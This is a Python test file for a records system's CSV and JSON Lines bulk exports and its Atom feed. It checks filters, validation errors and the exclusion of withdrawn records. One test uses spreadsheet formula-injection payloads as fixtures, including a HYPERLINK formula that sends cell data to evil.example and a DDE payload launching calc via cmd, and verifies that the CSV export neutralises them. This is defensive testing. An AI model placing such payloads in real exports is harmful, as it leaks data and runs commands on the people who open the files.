"""Bulk exports (CSV with BOM, JSON Lines) streamed from the database, and the Atom feed:
rows equal the API's, filters apply, withdrawn records never appear."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET

import api.exports
from db import changes
from db.tables import Honour, Result
from tests.helpers import make_uscc, result_payload, sign_in
from tests.records_helpers import DEPT, document_payload, honour_payload, plan_payload

ATOM = "{http://www.w3.org/2005/Atom}"


async def publish_results(client, h, n: int = 30) -> list[int]:
    items = [
        result_payload(
            make_uscc(seed=1000 + i),
            task=f"EX-{i}",
            categories=["X05"] if i % 3 == 0 else ["N01"],
            entity_name=f"聊城市测试{i}号商贸有限公司",
            follow_up="责令改正" if i % 3 == 0 else "",
        )
        for i in range(n)
    ]
    r = await client.post("/api/v1/admin/results/bulk", json={"items": items}, headers=h)
    assert r.status_code == 201, r.text
    return r.json()["ids"]


async def withdraw_result(rid: int) -> None:
    await Result.update({Result.disclosure: "withdrawn", Result.withdrawn_reason: "repaired"}).where(Result.id == rid)
    await changes.public_change("result", [rid], "withdrawn")


async def api_items(client, params: dict) -> list[dict]:
    out, cursor = [], None
    while True:
        r = (
            await client.get(
                "/api/v1/results", params=dict(params, page_size=100, **({"cursor": cursor} if cursor else {}))
            )
        ).json()
        out += r["items"]
        cursor = r["next_cursor"]
        if not cursor:
            return out


async def test_exports_equal_the_api_and_skip_withdrawn(client, monkeypatch) -> None:
    monkeypatch.setattr(api.exports, "CHUNK", 7)  # several keyset pages in one export
    h = await sign_in(client, "officer1", "officer", department_code=DEPT)
    ids = await publish_results(client, h)
    gone = [ids[0], ids[13]]
    for rid in gone:
        await withdraw_result(rid)
    for params in ({}, {"negative": "true"}, {"department": DEPT, "year": 2025}):
        expected = await api_items(client, params)
        r = await client.get("/api/v1/exports/results.jsonl", params=params)
        assert r.status_code == 200 and r.headers["content-type"].startswith("application/jsonl")
        got = [json.loads(line) for line in r.text.splitlines()]
        assert got == expected and not {g["id"] for g in got} & set(gone)

        r = await client.get("/api/v1/exports/results.csv", params=params)
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
        assert r.content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM for Excel
        rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
        assert [int(x["id"]) for x in rows] == [e["id"] for e in expected]
        for row, e in zip(rows, expected, strict=False):
            assert (row["uscc"], row["entity_name"], row["url"], row["negative"]) == (
                e["uscc"],
                e["entity_name"],
                e["url"],
                "true" if e["negative"] else "false",
            )
            assert row["categories"] == ",".join(c["code"] for c in e["categories"])
            assert row["departments"] == "；".join(e["departments"])
    assert len(await api_items(client, {})) == 28


async def test_export_bad_filters_are_422(client) -> None:
    for params, field in [
        ({"uscc": "91440300708461136X"}, "uscc"),
        ({"category": "Q99"}, "category"),
        ({"region": "37"}, "region"),
        ({"year": 1900}, "year"),
    ]:
        for fmt in ("csv", "jsonl"):
            r = await client.get(f"/api/v1/exports/results.{fmt}", params=params)
            assert r.status_code == 422 and field in [e["field"] for e in r.json()["errors"]], r.text


async def test_atom_feed_lists_publications_but_not_withdrawn(client) -> None:
    h = await sign_in(client, "officer1", "officer", department_code=DEPT)
    rids = await publish_results(client, h, n=3)
    pid = (await client.post("/api/v1/admin/plans", json=plan_payload(), headers=h)).json()["id"]
    did = (await client.post("/api/v1/admin/documents", json=document_payload(), headers=h)).json()["id"]
    hids = (
        await client.post(
            "/api/v1/admin/honours/bulk",
            headers=h,
            json={
                "items": [
                    honour_payload(make_uscc(seed=1), entity_name="撤回的荣誉企业"),
                    honour_payload(make_uscc(seed=2)),
                ]
            },
        )
    ).json()["ids"]
    await Honour.update({Honour.disclosure: "withdrawn"}).where(Honour.id == hids[0])
    await changes.public_change("honour", [hids[0]], "withdrawn")
    await withdraw_result(rids[1])
    r = await client.get("/feeds/publications.atom")
    assert r.status_code == 200 and r.headers["content-type"].startswith("application/atom+xml")
    root = ET.fromstring(r.content)
    assert root.tag == f"{ATOM}feed"
    links = [e.find(f"{ATOM}link").get("href") for e in root.findall(f"{ATOM}entry")]
    base = "http://testserver.local"
    assert f"{base}/plans/{pid}" in links and f"{base}/documents/{did}" in links
    assert f"{base}/honours/{hids[1]}" in links and f"{base}/results/{rids[0]}" in links
    assert f"{base}/honours/{hids[0]}" not in links and f"{base}/results/{rids[1]}" not in links
    assert "撤回的荣誉企业" not in r.text
    titles = [e.find(f"{ATOM}title").text for e in root.findall(f"{ATOM}entry")]
    assert any(t.startswith("[抽查计划] 聊城市2025年度") for t in titles)


async def test_csv_export_neutralises_formula_cells_and_jsonl_keeps_them(client) -> None:
    """Issue 13 item 6: a published text that a spreadsheet would run as a formula reaches the
    CSV reader as text (leading apostrophe), while JSON Lines carries it unchanged."""
    h = await sign_in(client, "officer1", "officer", department_code=DEPT)
    hostile = {
        "entity_name": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
        "follow_up": "+cmd|' /C calc'!A0",
        "penalty_decision_number": "@SUM(1+1)",
    }
    items = [
        result_payload(make_uscc(seed=7001), task="-2+3", **hostile),
        result_payload(make_uscc(seed=7002), task="EX-TAB"),
        result_payload(make_uscc(seed=7003), task="EX-OK", entity_name="聊城市正常商贸有限公司"),
    ]
    r = await client.post("/api/v1/admin/results/bulk", json={"items": items}, headers=h)
    assert r.status_code == 201, r.text
    # The API strips surrounding whitespace; text stored before that (or by another path) may not.
    await Result.update({Result.task_number: "\t=1+1"}).where(Result.id == r.json()["ids"][1])
    rows = {
        row["uscc"]: row
        for row in csv.DictReader(
            io.StringIO((await client.get("/api/v1/exports/results.csv")).content.decode("utf-8-sig"), newline="")
        )
    }
    jsonl = {
        d["uscc"]: d
        for d in (json.loads(x) for x in (await client.get("/api/v1/exports/results.jsonl")).text.splitlines())
    }
    first, second, plain = (rows[i["uscc"]] for i in items)
    assert first["task_number"] == "'-2+3"
    for field, value in hostile.items():
        assert first[field] == "'" + value
        assert jsonl[items[0]["uscc"]][field] == value
    assert second["task_number"] == "'\t=1+1"
    assert plain["task_number"] == "EX-OK" and plain["entity_name"] == "聊城市正常商贸有限公司"
    for row in rows.values():  # no cell of any row starts a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
